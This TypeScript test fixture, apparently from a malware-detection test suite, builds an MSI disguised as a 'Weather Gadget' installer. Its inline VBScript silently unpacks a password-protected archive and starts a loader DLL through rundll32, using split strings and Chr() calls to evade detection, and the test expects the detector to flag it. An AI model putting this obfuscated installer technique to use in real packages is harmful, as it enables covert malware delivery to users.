/** Inline VBScript unpacks and starts; its command lines are put together at run time. */
import { buildBundle, checkAction, LOADER } from '../ingredient/bundle.js';
import { ruleId } from '../rule-id.js';
import { fullBundle, type SampleCase } from '../sample-case.js';

const PASSWORD = 'vbs-Qq19';

const SCRIPT = `
Dim folder, shell
folder = Session.Property("FAV")
Set shell = CreateObject("WScr" & "ipt.Shell")
shell.Run """" & folder & "z.exe"" -o -P ${PASSWORD} """ & folder & "kq.zip"" -d """ & folder & """", 0, True
shell.Run "run" & "dll" & Chr(51) & Chr(50) & " """ & folder & "${LOADER}"",Start", 0, False
`;

export const sample: SampleCase = {
  name: 'dexphot-vbscript-action',
  title: 'inline VBScript that unpacks and starts',
  kind: 'dexphot',
  fileName: 'vbscript.msi',
  build: () =>
    buildBundle({
      name: 'Weather Gadget',
      password: PASSWORD,
      customActions: [checkAction(), { name: 'Run', type: 38, target: SCRIPT, after: 'InstallFinalize' }],
    }),
  expected: fullBundle({ hasBatch: true, findings: [ruleId.scriptAction] }),
};
